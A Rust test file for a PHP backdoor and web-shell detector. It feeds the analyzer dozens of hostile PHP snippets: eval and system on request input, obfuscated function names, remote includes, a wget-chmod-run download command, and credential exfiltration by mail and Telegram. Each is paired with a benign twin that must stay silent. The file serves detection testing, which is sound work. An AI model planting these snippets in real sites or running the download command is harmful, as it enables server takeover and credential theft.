//! Every mechanism of the analysis on code written for it, and a clean twin that
//! shares its features and must stay silent. The snippets are the project's own.

use breachkit_php::{Analysis, Analyzer, Cut, FactKind, Limits};

fn analyse(src: &str) -> Analysis {
    Analyzer::new().analyse(src.as_bytes(), &Limits::default())
}

fn kinds(src: &str) -> Vec<FactKind> {
    let mut k: Vec<FactKind> = analyse(src).facts.iter().map(|f| f.kind).collect();
    k.sort();
    k.dedup();
    k
}

fn fires(kind: FactKind, src: &str) {
    let got = kinds(src);
    assert!(
        got.contains(&kind),
        "{kind:?} expected in {got:?} for:\n{src}"
    );
}

fn silent(src: &str) {
    let got = analyse(src).facts;
    assert!(got.is_empty(), "expected no fact, got {got:#?} for:\n{src}");
}

#[test]
fn request_to_code_and_commands() {
    fires(FactKind::RequestCode, "<?php eval($_POST['c']);");
    fires(
        FactKind::RequestCommand,
        "<?php $c = $_GET['c']; if (!$c) { $c = 'id'; } echo shell_exec($c . ' 2>&1');",
    );
    fires(FactKind::RequestCommand, "<?php echo `{$_REQUEST['x']}`;");
    // Through a function defined in the file.
    fires(
        FactKind::RequestCommand,
        "<?php function ex($c) { if (function_exists('system')) { system($c); } } ex($_COOKIE['k']);",
    );
    // Through extract() and a variable variable loop.
    fires(
        FactKind::RequestCode,
        "<?php extract($_REQUEST); assert($code);",
    );
    fires(
        FactKind::RequestCommand,
        "<?php foreach ($_POST as $k => $v) { $$k = $v; } passthru($cmd);",
    );
    // A header, the body, getenv of a header.
    fires(
        FactKind::RequestCode,
        "<?php eval($_SERVER['HTTP_X_CODE']);",
    );
    fires(
        FactKind::RequestCode,
        "<?php eval(file_get_contents('php://input'));",
    );
    fires(
        FactKind::RequestCode,
        "<?php $h = getallheaders(); eval($h['X']);",
    );
    // preg_replace /e, create_function, a closure from create_function.
    fires(
        FactKind::RequestCode,
        "<?php preg_replace('/.*/e', $_POST['r'], 'x');",
    );
    fires(
        FactKind::RequestCode,
        "<?php $f = create_function('$a', 'return assert($a);'); $f($_GET['z']);",
    );
    // Honest request handling: numbers, escaped arguments, printing.
    silent(
        "<?php $id = (int) $_GET['id']; echo htmlspecialchars($_GET['q']); \
         system('ls -l ' . escapeshellarg($_GET['dir'])); $db->query('SELECT 1');",
    );
}

#[test]
fn computed_callees() {
    fires(FactKind::RequestFunction, "<?php $_GET['f']($_GET['a']);");
    fires(
        FactKind::RequestFunction,
        "<?php (\"sys\" . $_GET['t'])($_GET['c']);",
    );
    fires(
        FactKind::RequestFunction,
        "<?php $a = array($_POST['p']); array_filter($a, $_REQUEST['e']);",
    );
    fires(
        FactKind::RequestFunction,
        "<?php $r = new ReflectionFunction($_POST['f']); $r->invoke($_POST['a']);",
    );
    // Hidden names folded: pieces, strrev, base64, chr, escapes, XOR, barewords.
    for hidden in [
        "'as' . 'sert'",
        "strrev('tressa')",
        "base64_decode('YXNzZXJ0')",
        "chr(97) . chr(115) . 'sert'",
        "\"\\x61\\163sert\"",
        "'*88.9?' ^ 'KKKKKK'",
        "str_replace('Qx', '', 'aQxssQxert')",
    ] {
        let src = format!("<?php $f = {hidden}; $f($_POST['x']);");
        fires(FactKind::HiddenFunction, &src);
        fires(FactKind::RequestCode, &src);
    }
    // A callback that runs code.
    fires(
        FactKind::RunnerCallback,
        "<?php array_map('assert', array($_POST['x']));",
    );
    // Callees an application picks from its own table: silent.
    silent(
        "<?php $actions = array('list' => 'show_list', 'edit' => 'show_edit'); \
         $f = isset($actions[$_GET['a']]) ? $actions[$_GET['a']] : 'show_list'; $f(); \
         $cb = 'strtoupper'; echo $cb(base64_decode($x)); usort($rows, 'compare_rows');",
    );
}

#[test]
fn superglobal_hidden_by_xor_and_variable_variables() {
    let src = "<?php $n = '>1.25' ^ 'aaaaa'; $d = ${$n}; @eval($d['q']);";
    fires(FactKind::RequestCode, src);
    let f = analyse(src).facts;
    assert!(f[0].path.len() >= 2, "{f:#?}");
    silent("<?php $n = 'config'; $d = ${$n}; eval($d['q']);");
}

#[test]
fn output_buffer_callback() {
    let src = "<?php ob_start('assert'); echo $_REQUEST['c']; ob_end_flush();";
    fires(FactKind::RunnerCallback, src);
    fires(FactKind::RequestCode, src);
    silent("<?php ob_start('ob_gzhandler'); echo htmlspecialchars($_REQUEST['c']);");
}

#[test]
fn hidden_code_is_decoded_and_analysed() {
    // eval of a decoded literal, whose code is itself analysed.
    let payload = "ZXZhbCgkX1BPU1RbJ3gnXSk7"; // eval($_POST['x']);
    let src = format!("<?php eval(base64_decode('{payload}'));");
    fires(FactKind::HiddenCode, &src);
    let facts = analyse(&src).facts;
    let inner = facts
        .iter()
        .find(|f| f.kind == FactKind::RequestCode)
        .expect("the decoded code's flow");
    assert_eq!(inner.origin, breachkit_php::Origin::Decoded);
    assert_eq!(inner.line, 1);
    // A home-made XOR decoder run on its literal (loops followed exactly).
    let src = "<?php function d($s, $k) { $o = ''; for ($i = 0; $i < strlen($s); $i++) \
               { $o .= chr(ord($s[$i]) ^ ord($k[$i % strlen($k)])); } return $o; } \
               $f = d(base64_decode('GAoEHA4e'), 'kswh'); $f($_GET['x']);";
    fires(FactKind::HiddenFunction, src);
    fires(FactKind::RequestCommand, src);
    // PHP 5 brace offsets (`$s{4}`) of an urldecoded alphabet.
    let src = "<?php $O = urldecode('%61%73%73%65%72%74'); $f = $O{0}.$O{1}.$O{2}.$O{3}.$O{4}.$O{5}; $f($_GET['p']);";
    fires(FactKind::RequestCode, src);
    // Decoding data is not running it.
    silent(
        "<?php $img = base64_decode($raw); file_put_contents($path, $img); \
         $cfg = json_decode(base64_decode('eyJhIjoxfQ=='), true); echo gzinflate($blob);",
    );
}

#[test]
fn includes() {
    fires(FactKind::RequestInclude, "<?php include $_GET['page'];");
    fires(
        FactKind::HiddenInclude,
        "<?php @include \"\\057var\\057www\\057html\\057wp-content\\057uploads\\057favicon_6d2b.ico\";",
    );
    fires(
        FactKind::HiddenInclude,
        "<?php include $d . '/fonts/.cache.png';",
    );
    fires(
        FactKind::RemoteCode,
        "<?php include 'http://203.0.113.9/x.txt'; eval(file_get_contents('https://203.0.113.9/y'));",
    );
    // An application picking its own language file.
    silent(
        "<?php $l = $_GET['lang']; include __DIR__ . '/lang/' . $l . '.php'; \
         require_once __DIR__ . '/wp-settings.php';",
    );
}

#[test]
fn files_uploads_and_downloads() {
    fires(
        FactKind::RequestWrite,
        "<?php file_put_contents($_POST['n'], $_POST['c']);",
    );
    fires(
        FactKind::RequestWrite,
        "<?php $f = fopen('cache.php', 'w'); fwrite($f, $_POST['c']);",
    );
    fires(
        FactKind::Uploader,
        "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
    );
    fires(
        FactKind::RemoteWrite,
        "<?php $c = curl_init('http://203.0.113.9/s'); $d = curl_exec($c); file_put_contents('s.php', $d);",
    );
    fires(
        FactKind::RemoteWrite,
        "<?php copy('http://203.0.113.9/s.txt', 'shell.php');",
    );
    silent(
        "<?php $name = md5(uniqid()) . '.jpg'; move_uploaded_file($_FILES['f']['tmp_name'], 'up/' . $name); \
         file_put_contents('cache/feed.xml', file_get_contents('https://example.org/feed')); \
         file_put_contents('log.txt', $_POST['comment'], FILE_APPEND);",
    );
}

#[test]
fn password_gates_and_object_injection() {
    fires(
        FactKind::PasswordGate,
        "<?php if (md5($_COOKIE['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') { echo 1; }",
    );
    fires(
        FactKind::ObjectInjection,
        "<?php class C { public $h; function __destruct() { eval($this->h); } } unserialize($_GET['d']);",
    );
    silent(
        "<?php if (md5($_POST['p']) === $row['hash']) { echo 1; } \
         if (password_verify($_POST['p'], $user->hash)) { echo 2; } \
         class D { function __destruct() { fclose($this->fh); } } unserialize($_GET['d']);",
    );
}

#[test]
fn commands_written_in_the_code() {
    let src = "<?php exec('wget http://203.0.113.9/m -O /tmp/.m; chmod +x /tmp/.m; /tmp/.m');";
    let facts = analyse(src).facts;
    let cmd = facts
        .iter()
        .find(|f| f.kind == FactKind::ConstantCommand)
        .expect("the command");
    assert!(
        cmd.detail
            .as_deref()
            .is_some_and(|d| d.starts_with(b"wget"))
    );
}

#[test]
fn mailers_and_harvesters() {
    fires(
        FactKind::MailLoop,
        "<?php foreach (explode(\"\\n\", $_POST['list']) as $to) { mail($to, $_POST['s'], $_POST['b']); }",
    );
    fires(
        FactKind::CredentialExfil,
        "<?php $m = 'user ' . $_POST['email'] . ' pass ' . $_POST['password']; mail('x@example.net', 'log', $m);",
    );
    fires(
        FactKind::CredentialExfil,
        "<?php file_get_contents('https://api.telegram.org/bot1:A/sendMessage?text=' . urlencode($_POST['pass']));",
    );
    // A contact form mails the owner; a newsletter mails its own subscribers.
    silent(
        "<?php mail('owner@example.org', 'Contact', $_POST['message'], 'Reply-To: ' . $_POST['email']); \
         foreach ($subscribers as $s) { mail($s, $_POST['subject'], $_POST['body']); }",
    );
}

#[test]
fn hostile_input_is_bounded() {
    // Deep nesting, a long concatenation, binary junk, an endless loop.
    let deep = format!(
        "<?php $a = {}1{}; eval($_GET[1]);",
        "(".repeat(5000),
        ")".repeat(5000)
    );
    let a = analyse(&deep);
    assert_eq!(a.cut, Some(Cut::Nesting));
    assert!(a.facts.iter().any(|f| f.kind == FactKind::RequestCode));
    let long = format!("<?php $s = {}'x'; eval($s);", "'a' . ".repeat(20_000));
    analyse(&long);
    let junk: Vec<u8> = (0..100_000u32).map(|i| (i * 7919 % 251) as u8).collect();
    Analyzer::new().analyse(&junk, &Limits::default());
    let endless = "<?php $i = 0; while (true) { $i++; $s = str_repeat('a', 10); } eval($_GET[1]);";
    let a = analyse(endless);
    assert!(a.facts.iter().any(|f| f.kind == FactKind::RequestCode));
    let bomb = "<?php $s = 'ab'; while (1) { $s = $s . $s; } ";
    analyse(bomb);
    // A file larger than the analysis reads is not parsed (a tree of dense code
    // takes about 150 times the file's size in memory), and says so.
    let limits = Limits {
        source: 1 << 10,
        ..Limits::default()
    };
    let big = format!("<?php {} eval($_GET[1]);", "$a = 1;\n".repeat(200));
    let a = Analyzer::new().analyse(big.as_bytes(), &limits);
    assert_eq!(a.cut, Some(Cut::Size));
    assert!(a.facts.is_empty());
    let small = Analyzer::new().analyse(b"<?php eval($_GET[1]);", &limits);
    assert!(!small.facts.is_empty());
    // Dense code under the size limit is not parsed either (1.2 MB of
    // `'a'.'a'.…` once took 330 MB), nor is dense code it decodes; a blob of the
    // same size is read (its tree is small).
    let dense = format!("<?php $a = {}'a'; eval($_GET[1]);", "'a'.".repeat(300_000));
    let a = analyse(&dense);
    assert_eq!(a.cut, Some(Cut::Size));
    let decoded = format!(
        "<?php eval(base64_decode('{}'));",
        base64(format!("$a = {}'a';", "'a'.".repeat(300_000)).as_bytes())
    );
    assert!(decoded.len() < 2 << 20);
    let a = analyse(&decoded);
    assert_eq!(a.cut, Some(Cut::Decoded));
    let blob = format!(
        "<?php $b = '{}'; eval($_POST['x']);",
        "QUFB".repeat(300_000)
    );
    let a = analyse(&blob);
    assert_eq!(a.cut, None);
    assert!(a.facts.iter().any(|f| f.kind == FactKind::RequestCode));
}

/// Standard base64 (for building test inputs).
fn base64(bytes: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            if i <= c.len() {
                out.push(char::from(T[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn files_written_with_php_code_are_analysed() {
    let src = "<?php @fputs(fopen(base64_decode('bG9zdC5waHA='), 'w'), \
               '<?php @eval($_POST[\"lw\"]); ?>');";
    let facts = analyse(src).facts;
    let inner = facts
        .iter()
        .find(|f| f.kind == FactKind::RequestCode)
        .expect("the written file's flow");
    assert_eq!(inner.origin, breachkit_php::Origin::Written);
    // The path is put together: its known end says PHP runs it.
    fires(
        FactKind::RequestCommand,
        "<?php file_put_contents($dir . '/x.php', '<?php system($_GET[1]);');",
    );
    // A template written with data, a cache of HTML: silent.
    silent(
        "<?php file_put_contents($dir . '/page.html', '<html><body>Hello</body></html>'); \
         file_put_contents('cache.php', '<?php return array(\"a\" => 1);');",
    );
}

#[test]
fn register_globals() {
    fires(
        FactKind::RegisterGlobals,
        "<form><input name=\"cmd\"></form><?php if ($cmd) { system($cmd); }",
    );
    fires(
        FactKind::RegisterGlobals,
        "<a href=\"?page=x\">x</a><?php include $page;",
    );
    fires(
        FactKind::RegisterGlobals,
        "<?php /* ?x=assert */ $x($_POST['z']);",
    );
    // A global another file of the application sets, no form field of its name.
    silent("<?php call_user_func_array($wp_widget_callbacks['x'], array()); system($cmd);");
    fires(
        FactKind::RequestCode,
        "<?php /* ?p=/x/e */ @preg_filter($p, $_REQUEST['r'], '');",
    );
    // Variables the code sets, or a function's own variables: silent.
    silent(
        "<?php if ($argc > 1) { $paths = $argv[1]; } $items = $paths ? explode(',', $paths) : []; \
         foreach ($items as $i) { passthru('phpcs ' . $i); } \
         $cmd = get_option('cmd'); $out = shell_exec($cmd); \
         function f($c) { $x = null; return $x; } $page = __DIR__ . '/home.php'; include $page;",
    );
}

#[test]
fn database_consoles() {
    fires(
        FactKind::RequestQuery,
        "<?php $l = mysqli_connect($h, $u, $p); $r = mysqli_query($l, $_POST['sql']);",
    );
    fires(
        FactKind::RequestQuery,
        "<?php mysql_query(stripslashes($_REQUEST['q']));",
    );
    // A query with a request value in it is an injection (the code audit's), not a console.
    silent(
        "<?php mysql_query(\"SELECT * FROM t WHERE id = \" . (int) $_GET['id']); \
         mysqli_query($l, \"SELECT * FROM t WHERE name = '\" . $_GET['n'] . \"'\");",
    );
}

#[test]
fn older_php_shapes() {
    // `<script language="php">` blocks (PHP 5).
    fires(
        FactKind::RequestCode,
        "<html><script language=\"php\">@eval($_POST['z']);</script></html>",
    );
    // Windows' shell object through COM.
    fires(
        FactKind::RequestCommand,
        "<?php $s = new COM('WScript.Shell'); $s->exec('cmd /c ' . $_GET['c']);",
    );
    // Names counted up from the letters of \"Array\" (non-alphanumeric shells).
    fires(
        FactKind::RequestCode,
        "<?php $_ = []; $_ = @\"$_\"; $_ = $_['!' == '@']; $a = $_; $a++; $a++; $a++; $a++; \
         $f = $_ . $a; $f = 'ass' . 'ert'; $p = '_POST'; $f(${$p}['x']);",
    );
    // $GLOBALS replaced by an array of names.
    fires(
        FactKind::RequestCommand,
        "<?php $GLOBALS = array('f' => 'sys' . 'tem'); $GLOBALS['f']($_GET['c']);",
    );
}

#[test]
fn the_file_name_can_name_the_function() {
    let src = b"<?php $f = substr(__FILE__, -10, -4); $f($_POST['c']);";
    let a =
        Analyzer::new().analyse_at(Some("/var/www/html/up/assert.php"), src, &Limits::default());
    assert!(
        a.facts.iter().any(|f| f.kind == FactKind::RequestCode),
        "{:#?}",
        a.facts
    );
    let a = Analyzer::new().analyse_at(
        Some("/var/www/html/up/gallery.php"),
        src,
        &Limits::default(),
    );
    assert!(a.facts.is_empty(), "{:#?}", a.facts);
}

#[test]
fn file_readers() {
    fires(FactKind::RequestRead, "<?php readfile($_GET['f']);");
    fires(
        FactKind::RequestRead,
        "<?php $h = fopen($_POST['fname'], 'r'); echo fread($h, 1 << 20);",
    );
    // A name the site makes from the request, inside its own folder.
    silent(
        "<?php readfile(__DIR__ . '/docs/' . basename($_GET['f'])); \
         echo file_get_contents('data/' . $_GET['page'] . '.html');",
    );
}
